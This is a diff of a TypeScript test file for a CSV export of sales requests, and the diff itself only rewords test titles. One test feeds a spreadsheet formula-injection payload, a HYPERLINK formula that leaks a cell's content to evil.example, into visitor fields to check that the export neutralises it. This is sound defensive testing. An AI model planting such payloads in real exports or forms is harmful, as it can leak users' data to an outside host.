@@ -19,7 +19,7 @@ async function exportRows(filter: Parameters<typeof exportRequests>[1] = {}): Pr
   return parse(pieces.join(''), { bom: true, columns: true, delimiter: ';', recordDelimiter: '\r\n' })
 }
 
-it('a table has a line for each request, in words that a salesperson reads', async () => {
+it('the table has a readable line for each request', async () => {
   const { id } = await addRequest(database.db, {
     createdAt: new Date('2026-11-20T11:20:00Z'),
     name: 'Анна',
@@ -48,7 +48,7 @@ it('a table has a line for each request, in words that a salesperson reads', asy
   ])
 })
 
-it('nothing that a visitor typed is a formula', async () => {
+it('the visitor’s input is never a formula', async () => {
   const typed = '=HYPERLINK("https://evil.example?"&A1;"Скидка")'
   await addRequest(database.db, { name: typed, comment: `\t${typed}`, email: '+cmd@example.ru' })
   await database.db
@@ -61,7 +61,7 @@ it('nothing that a visitor typed is a formula', async () => {
   for (const cell of cells) expect(cell.trimStart()).not.toMatch(/^[=+\-@\t\r]/)
 })
 
-it('a filter lets through what was asked for, in a list as in a table', async () => {
+it('a filter selects the same requests in a list and in a table', async () => {
   await addRequest(database.db, { createdAt: new Date('2026-01-01T00:00:00Z'), name: 'Ранняя' })
   const { id } = await addRequest(database.db, { name: 'Подозрительная' })
   await database.db.updateTable('request').set({ suspicion: 'honeypot' }).where('id', '=', id).execute()
@@ -74,7 +74,7 @@ it('a filter lets through what was asked for, in a list as in a table', async ()
   expect(await listRequests(context, { delivery: 'dead' }, 10)).toEqual([])
 })
 
-it('a day begins at midnight by the clock of the branch, as its requests are told', async () => {
+it('a day begins at midnight in the time zone of the branch', async () => {
   const midnight = new Date('2026-01-01T21:30:00Z')
   const { id: ural } = await addRequest(database.db, { createdAt: new Date('2026-01-01T19:30:00Z'), name: 'Урал' })
   await addRequest(database.db, { createdAt: new Date('2026-01-01T20:30:00Z'), name: 'Вечер' })
@@ -105,7 +105,7 @@ it('a day begins at midnight by the clock of the branch, as its requests are tol
   ])
 })
 
-it('many requests come batch by batch, each once', async () => {
+it('many requests are exported in batches, each once', async () => {
   await sql`
     insert into request (kind, form, idempotency_key, body_hash, submitted_at)
     select 'call', 'request-call', gen_random_uuid(), '', now() from generate_series(1, 1203)`.execute(database.db)
